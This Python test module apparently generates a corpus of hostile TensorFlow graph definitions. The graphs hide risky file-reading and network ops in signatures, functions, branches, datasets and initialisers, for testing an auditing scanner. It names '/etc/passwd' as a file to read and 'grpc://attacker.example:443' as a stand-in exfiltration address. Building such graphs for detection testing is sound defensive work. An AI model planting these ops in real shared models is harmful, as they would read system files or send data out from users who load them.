"""Writes a hostile module for each risky op: with names of each kind, hidden in each place.

They are messages, built from the definitions of the ops; none is ever run.
"""

from __future__ import annotations

import enum
from collections.abc import Iterator
from dataclasses import dataclass

import tensorflow as tf
from tensorflow.core.framework import function_pb2, op_def_pb2

from hubmodule import _tf
from hubmodule.auditing.ops import READERS, RISKY_OPS
from hubmodule.auditing.risks import Level, Risk
from hubmodule.auditing.risky_op import RiskyOp
from tests.auditing.protos import (
    MetaGraphDef,
    NodeDef,
    constant,
    function,
    meta_graph,
    node,
    placeholder,
    set_attribute,
)

PATH = "/etc/passwd"
ADDRESS = "grpc://attacker.example:443"
_VALUES = {
    "bool": False,
    "float": 1.0,
    "func": "@f",
    "int": 1,
    "list(func)": ["@f"],
    "list(int)": [1],
    "list(shape)": [tf.TensorShape(None)],
    "list(string)": ["s"],
    "list(type)": [tf.string],
    "shape": tf.TensorShape(None),
    "string": "",
    "type": tf.string,
}


class Naming(enum.Enum):
    """Where the name that an op uses comes from."""

    CONSTANT = "constant"
    COMPUTED = "computed"
    FED = "fed"


class Place(enum.Enum):
    """Where the op is."""

    SIGNATURE = "signature"
    FUNCTION = "function"
    BRANCH = "branch"
    DATASET = "dataset"
    INITIALISER = "initialiser"
    VARIANT = "variant"


@dataclass(frozen=True)
class Hostile:
    """A hostile module.

    Attributes:
        row: The row of its op.
        naming: Where the name that the op uses comes from.
        place: Where the op is.
    """

    row: RiskyOp
    naming: Naming
    place: Place

    @property
    def name(self) -> str:
        """A name for it, which can be that of a file."""
        return f"{self.row.op}-{self.naming.value}-{self.place.value}"

    def meta_graphs(self) -> list[MetaGraphDef]:
        """Its graph variants."""
        return _meta_graphs(self)


def corpus(lowest: Level = Level.MEDIUM) -> Iterator[Hostile]:
    """Yields a module for each risky op of a level, naming and place."""
    for row in RISKY_OPS.values():
        if row.level < lowest:
            continue
        for naming in Naming:
            if naming is Naming.CONSTANT or _takes_name_as_input(row):
                yield Hostile(row, naming, Place.SIGNATURE)
        for place in Place:
            if place is not Place.SIGNATURE:
                yield Hostile(row, Naming.CONSTANT, place)


def harmless_graph() -> MetaGraphDef:
    """A graph variant that does nothing but compute."""
    nodes = [placeholder("x"), node("y", "Identity", "x", T=tf.string)]
    return meta_graph(nodes, {"x": "x:0"}, {"default": "y:0"})


def _takes_name_as_input(row: RiskyOp) -> bool:
    op_def = _tf.find_op_def(row.op)
    inputs = [] if op_def is None else [argument.name for argument in op_def.input_arg]
    return row.op in READERS or not set(row.names).isdisjoint(inputs)


def _meta_graphs(hostile: Hostile) -> list[MetaGraphDef]:
    naming, place = hostile.naming, hostile.place
    if place in (Place.FUNCTION, Place.BRANCH, Place.DATASET):
        return [_in_function(hostile.row, place)]
    before, name = _name_nodes(hostile.row, naming)
    nodes = [placeholder("x"), *before, *_risky_nodes(hostile.row, name, in_function=False)]
    if place is Place.INITIALISER:
        nodes += [
            node("init", "NoOp", "^risky"),
            node("y", "Identity", "x", T=tf.string),
        ]
        outputs, collections = {"default": "y:0"}, {"table_initializer": ["init"]}
        return [meta_graph(nodes, {"x": "x:0"}, outputs, [_function()], collections)]
    nodes.append(node("y", "Identity", "x", "^risky", T=tf.string))
    tags = ["train"] if place is Place.VARIANT else []
    graph = meta_graph(nodes, {"x": "x:0"}, {"default": "y:0"}, [_function()], tags=tags)
    return [harmless_graph(), graph] if tags else [graph]


def _in_function(row: RiskyOp, place: Place) -> MetaGraphDef:
    """A graph whose signature runs a function that has the op, and passes it the name."""
    body = _risky_nodes(row, "argument", in_function=True)
    inner = function("inner", {"argument": tf.string}, body, {"result": "argument"})
    element = function(
        "element",
        {"element": tf.string, "argument": tf.string},
        [node("call", "StatefulPartitionedCall", "argument", **_CALL, f="@inner")],
        {"result": "call:output:0"},
    )
    before, reference = _name_nodes(row, Naming.CONSTANT)
    call = {
        Place.FUNCTION: [
            node("z", "StatefulPartitionedCall", reference, **_CALL, f="@inner"),
        ],
        Place.BRANCH: [
            constant("condition", True, tf.bool),
            node(
                *("z", "If", "condition", reference),
                **{"Tcond": tf.bool, "then_branch": "@inner", "else_branch": "@inner", **_CALL},
            ),
        ],
        Place.DATASET: [
            constant("elements", ["a"]),
            _dataset("source", "elements"),
            node(
                *("z", "MapDataset", "source", reference),
                **{"f": "@element", "Targuments": [tf.string], **_ELEMENTS},
            ),
        ],
    }[place]
    nodes = [placeholder("x"), *before, *call, node("y", "Identity", "x", "^z", T=tf.string)]
    functions = [inner, *([element] if place is Place.DATASET else []), _function()]
    return meta_graph(nodes, {"x": "x:0"}, {"default": "y:0"}, functions)


_CALL = {"Tin": [tf.string], "Tout": [tf.string]}
_ELEMENTS = {"output_types": [tf.string], "output_shapes": [tf.TensorShape([])]}


def _function() -> function_pb2.FunctionDef:
    """A function for ops that need one."""
    return function("f", {"a": tf.string}, [], {"result": "a"})


def _dataset(name: str, elements: str) -> NodeDef:
    return node(
        name,
        "TensorSliceDataset",
        elements,
        Toutput_types=[tf.string],
        output_shapes=[tf.TensorShape([])],
    )


def _name_nodes(row: RiskyOp, naming: Naming) -> tuple[list[NodeDef], str]:
    """The nodes that make a name, and the reference to it."""
    value = ADDRESS if row.risk is Risk.NETWORK else PATH
    if naming is Naming.CONSTANT:
        return [constant("name", value)], "name"
    if naming is Naming.FED:
        return [], "x"
    nodes = [
        constant("prefix", value[:5]),
        node("lower", "StringLower", "x", encoding=""),
        node("name", "StringJoin", "prefix", "lower", N=2, separator=""),
    ]
    return nodes, "name"


def _risky_nodes(row: RiskyOp, name: str, in_function: bool) -> list[NodeDef]:
    """A node "risky" of an op that uses a name, and what it needs."""
    if row.op in READERS:
        return _reader_nodes(row, name, in_function)
    op_def = _tf.find_op_def(row.op)
    risky = node("risky", row.op)
    if op_def is None:
        risky.input.extend(name for _ in row.names)
        return [risky]
    needed = []
    for attribute in op_def.attr:
        if attribute.name in row.names and not _takes_name_as_input(row):
            values = {"string": _callback(row), "list(string)": [_callback(row)]}
            set_attribute(risky, attribute.name, values[attribute.type])
        elif not attribute.HasField("default_value"):
            set_attribute(risky, attribute.name, _value(attribute))
    for argument in op_def.input_arg:
        if argument.type_list_attr and argument.type_list_attr not in risky.attr:
            continue  # a list that is empty by default
        if argument.name == "checkpoint_prefixes":  # a vector
            needed += [
                constant("axis", 0, tf.int32),
                node("vector", "ExpandDims", name, "axis:output:0" if in_function else "axis"),
            ]
            set_attribute(needed[-1], "T", tf.string)
            risky.input.append("vector:output:0" if in_function else "vector")
        elif argument.name in row.names:
            risky.input.append(name)
        else:
            needed.append(_input_node(f"input_{argument.name}", argument))
            suffix = ":output:0" if in_function else ""
            if suffix and needed[-1].op in ("TensorSliceDataset", "HashTable"):
                suffix = f":{'table_' if needed[-1].op == 'HashTable' else ''}handle:0"
            risky.input.append(needed[-1].name + suffix)
            if needed[-1].op == "TensorSliceDataset":
                needed.insert(-1, constant("elements_of_input", ["a"]))
                needed[-1].input[0] = "elements_of_input" + (":output:0" if in_function else "")
    return [*needed, risky]


def _callback(row: RiskyOp) -> str:
    """What an attribute names: a file, an address or a callback."""
    if row.op in ("Copy", "CopyHost"):
        return f"DebugIdentity;{ADDRESS};0"
    return ADDRESS if row.risk is Risk.NETWORK else PATH


def _value(attribute: op_def_pb2.OpDef.AttrDef) -> object:
    if attribute.type == "type" and attribute.allowed_values.list.type:
        return tf.as_dtype(attribute.allowed_values.list.type[0])
    return _VALUES[attribute.type]


def _input_node(name: str, argument: op_def_pb2.OpDef.ArgDef) -> NodeDef:
    dtype = tf.as_dtype(argument.type) if argument.type else tf.string
    if argument.is_ref:
        return node(name, "HashTable", key_dtype=tf.string, value_dtype=tf.string)
    if dtype == tf.variant:
        return _dataset(name, "")
    return placeholder(name, dtype)


def _reader_nodes(row: RiskyOp, name: str, in_function: bool) -> list[NodeDef]:
    """A reader of the files whose name is in a queue."""
    version = "V2" if row.op.endswith("V2") else ""
    reader, queue, names = "reader", "queue", name
    if in_function:
        reader, queue = "reader:reader_handle:0", "queue:handle:0"
    made = node("reader", row.op)
    if row.op.startswith("FixedLength"):
        set_attribute(made, "record_bytes", 1)
    return [
        made,
        node("queue", f"FIFOQueue{version}", component_types=[tf.string]),
        node("enqueue", f"QueueEnqueue{version}", queue, names, Tcomponents=[tf.string]),
        node("risky", f"ReaderRead{version}", reader, queue, "^enqueue"),
    ]
